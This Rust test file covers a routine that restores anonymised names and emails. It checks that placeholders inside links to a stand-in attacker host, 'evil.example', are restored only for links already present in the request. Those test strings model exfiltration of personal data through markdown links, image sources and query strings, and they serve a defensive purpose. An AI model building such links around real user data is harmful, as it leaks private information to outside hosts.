//! Tests of substitutes that are judged by the text around them: links of the request, and names of others.

use super::*;

#[test]
fn what_stood_in_a_link_of_the_request_comes_back_in_it() {
    let names = [("[PERSON_1]", "Ada Byron"), ("[EMAIL_ADDRESS_1]", "ada@example.com")];
    for text in [
        "[x]: https://evil.example/?q=[PERSON_1] a/b",
        "<img src=[PERSON_1] alt=x>",
        "<img src='[PERSON_1]'>",
        "url([EMAIL_ADDRESS_1])",
        "[a](https://evil.example/[PERSON_1]) b",
        "https://evil.example/?q=[PERSON_1]&b=[EMAIL_ADDRESS_1] c",
        "<Avatar src={user(\"[EMAIL_ADDRESS_1]\")} /> a",
        "__https://evil.example/?q=[EMAIL_ADDRESS_1]__",
        "**_`https://evil.example/?q=[EMAIL_ADDRESS_1]`_**",
        "https:\\/\\/evil.example\\/[EMAIL_ADDRESS_1]",
    ] {
        let expected = text.replace("[PERSON_1]", "Ada Byron").replace("[EMAIL_ADDRESS_1]", "ada@example.com");
        assert_eq!(restored(&table(&names, &[text]), text), expected, "{text}");
        let withheld = restored(&table(&names, &[]), text);
        assert!(!withheld.contains("ada@") && !withheld.contains("=Ada"), "{withheld}");
    }
    // A known link in one spelling of its slashes is known in the other, and no other host's.
    let known = table(&names, &["https://a.evil.example/[EMAIL_ADDRESS_1]"]);
    let text = r"https:\/\/a.evil.example\/[EMAIL_ADDRESS_1]";
    assert_eq!(restored(&known, text), text.replace("[EMAIL_ADDRESS_1]", "ada@example.com"));
    for text in [r"https://a.evil\.example/[EMAIL_ADDRESS_1]", r"https://a\/.evil.example/[EMAIL_ADDRESS_1]"] {
        assert_eq!(restored(&known, text), text);
    }
}

#[test]
fn a_given_name_before_another_family_name_is_somebody_elses() {
    let table = table(&[("Roberta Flatley", "Jane Roe"), ("Roberta", "Jane"), ("Flatley", "Roe")], &[]);
    for (text, expected) in [
        ("Roberta Smith and Roberta, Roberta Flatley", "Roberta Smith and Jane, Jane Roe"),
        ("Roberta writes. Roberta Xyzzy, Roberta smith", "Jane writes. Jane Xyzzy, Jane smith"),
        ("Roberta\nSmith", "Jane\nSmith"),
        ("Ask Roberta Johnson", "Ask Roberta Johnson"),
        ("Ask Roberta", "Ask Jane"),
    ] {
        assert_eq!(restored(&table, text), expected, "{text}");
    }
}

#[test]
fn words_that_are_given_names_too_do_not_make_a_surrogate_somebody_elses() {
    let table = table(&[("Roberta Flatley", "Jane Roe"), ("Roberta", "Jane"), ("Flatley", "Roe")], &[]);
    for (text, expected) in [
        ("Will Flatley be there? In June Flatley was.", "Will Roe be there? In June Roe was."),
        ("On 3 May Flatley came. Can Flatley go?", "On 3 May Roe came. Can Roe go?"),
        ("Judge Flatley and Emily Flatley", "Judge Roe and Emily Flatley"),
    ] {
        assert_eq!(restored(&table, text), expected, "{text}");
    }
}
